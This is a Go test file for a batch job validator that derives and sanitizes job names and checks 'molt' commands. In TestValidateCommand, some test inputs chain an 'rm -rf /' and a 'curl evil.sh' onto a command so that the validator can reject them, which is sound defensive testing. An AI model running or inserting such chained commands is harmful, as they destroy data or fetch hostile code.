package mbatch

import (
	"errors"
	"strings"
	"testing"
	"time"
)

func TestDeriveJobName(t *testing.T) {
	tests := []struct {
		source  string
		command string
		want    string
	}{
		{"https://github.com/user/repo1.git", "molt transform custom -n AWS/java-upgrade", "repo1-java-upgrade"},
		{"s3://bucket/code/repo2.zip", "molt transform", "repo2-transform"},
		{"https://gitlab.com/group/tool", "molt run", "tool-transform"},
		{"", "molt mcp tools", "mcp-tools-transform"},
		{"", "molt custom def exec extra words", "custom-def-exec-transform"},
		{"", "molt status", "status-transform"},
		{"", "molt", "job-transform"},
		{"https://github.com/org/my_repo.git", "molt go -n AWS/net_upgrade", "my-repo-net-upgrade"},
	}
	for _, tt := range tests {
		if got := DeriveJobName(tt.source, tt.command); got != tt.want {
			t.Errorf("DeriveJobName(%q, %q) = %q, want %q", tt.source, tt.command, got, tt.want)
		}
	}
}

func TestSanitizeJobName(t *testing.T) {
	if got := SanitizeJobName("my repo_name.v2"); got != "my-repo-name-v2" {
		t.Errorf("Expected my-repo-name-v2, got %q", got)
	}
	long := SanitizeJobName(strings.Repeat("a", 200))
	if len(long) != 128 {
		t.Errorf("Expected names capped at 128 chars, got %d", len(long))
	}
}

func TestValidateBatchEmptyJobs(t *testing.T) {
	err := ValidateBatch(&BatchRequest{})
	var ve *ValidationError
	if !errors.As(err, &ve) {
		t.Fatalf("Expected ValidationError, got %v", err)
	}
	if ve.JobIndex != -1 || ve.Message != "Missing or empty jobs array" {
		t.Errorf("Unexpected error %+v", ve)
	}
}

func TestValidateBatchMissingCommand(t *testing.T) {
	req := &BatchRequest{Jobs: []JobSpec{
		{Command: "molt transform"},
		{Source: "https://github.com/user/repo.git"},
	}}
	err := ValidateBatch(req)
	var ve *ValidationError
	if !errors.As(err, &ve) {
		t.Fatalf("Expected ValidationError, got %v", err)
	}
	if ve.JobIndex != 1 {
		t.Errorf("Expected job index 1, got %d", ve.JobIndex)
	}
	if ve.Message != "Job 1 missing required field: command" {
		t.Errorf("Unexpected message %q", ve.Message)
	}
}

func TestValidateBatchFillsJobNames(t *testing.T) {
	req := &BatchRequest{Jobs: []JobSpec{
		{Source: "https://github.com/user/repo1.git", Command: "molt transform custom -n AWS/java-upgrade"},
		{JobName: "My Job", Command: "molt transform"},
	}}
	if err := ValidateBatch(req); err != nil {
		t.Fatalf("ValidateBatch failed: %v", err)
	}
	if req.Jobs[0].JobName != "repo1-java-upgrade" {
		t.Errorf("Expected derived name, got %q", req.Jobs[0].JobName)
	}
	if req.Jobs[1].JobName != "My-Job" {
		t.Errorf("Expected sanitized name, got %q", req.Jobs[1].JobName)
	}
}

func TestValidateBatchAllowsMissingSource(t *testing.T) {
	req := &BatchRequest{Jobs: []JobSpec{{Command: "molt mcp tools"}}}
	if err := ValidateBatch(req); err != nil {
		t.Fatalf("Jobs without a source must pass: %v", err)
	}
}

func TestValidateBatchRejectsBadSource(t *testing.T) {
	req := &BatchRequest{Jobs: []JobSpec{
		{Source: "ftp://example.com/repo", Command: "molt transform"},
	}}
	err := ValidateBatch(req)
	var ve *ValidationError
	if !errors.As(err, &ve) {
		t.Fatalf("Expected ValidationError, got %v", err)
	}
	if !strings.HasPrefix(ve.Message, "Job 0: Invalid source format") {
		t.Errorf("Unexpected message %q", ve.Message)
	}
}

func TestValidateCommand(t *testing.T) {
	tests := []struct {
		command string
		wantErr string
	}{
		{`molt transform -n AWS/java-upgrade -p /src --flag="value"`, ""},
		{"  molt status  ", ""},
		{"atx transform", "Command must start with 'molt'"},
		{"molt transform; rm -rf /", "Command contains dangerous pattern: ;"},
		{"molt transform && curl evil.sh", "Command contains dangerous pattern: &&"},
		{"molt echo $HOME", "Command contains invalid characters"},
	}
	for _, tt := range tests {
		err := ValidateCommand(tt.command)
		if tt.wantErr == "" {
			if err != nil {
				t.Errorf("ValidateCommand(%q) failed: %v", tt.command, err)
			}
			continue
		}
		if err == nil || err.Error() != tt.wantErr {
			t.Errorf("ValidateCommand(%q) = %v, want %q", tt.command, err, tt.wantErr)
		}
	}
}

func TestContainerCommand(t *testing.T) {
	got := containerCommand("https://github.com/u/r.git", "transformations/r-java/", "molt transform -n AWS/java-upgrade")
	want := []string{"--source", "https://github.com/u/r.git", "--output", "transformations/r-java/", "--command", "molt transform -n AWS/java-upgrade"}
	if len(got) != len(want) {
		t.Fatalf("Expected %d args, got %d", len(want), len(got))
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("Arg %d: expected %q, got %q", i, want[i], got[i])
		}
	}

	noSource := containerCommand("", "transformations/mcp-tools/", "molt mcp tools")
	if len(noSource) != 4 || noSource[0] != "--output" {
		t.Errorf("Sourceless command must omit --source, got %v", noSource)
	}
}

func TestNewBatchID(t *testing.T) {
	zone := time.FixedZone("UTC+5", 5*60*60)
	id := NewBatchID(time.Date(2026, 1, 2, 20, 4, 5, 0, zone))
	if id != "batch-20260102-150405" {
		t.Errorf("Expected UTC batch id, got %q", id)
	}
}

func TestRecordKeys(t *testing.T) {
	if got := IntentKey("batch-20260102-150405"); got != "batch-jobs/batch-20260102-150405-input.json" {
		t.Errorf("Unexpected intent key %q", got)
	}
	if got := OutcomeKey("batch-20260102-150405"); got != "batch-jobs/batch-20260102-150405-output.json" {
		t.Errorf("Unexpected outcome key %q", got)
	}
	if got := OutputPrefix("repo1-java-upgrade"); got != "transformations/repo1-java-upgrade/" {
		t.Errorf("Unexpected output prefix %q", got)
	}
}
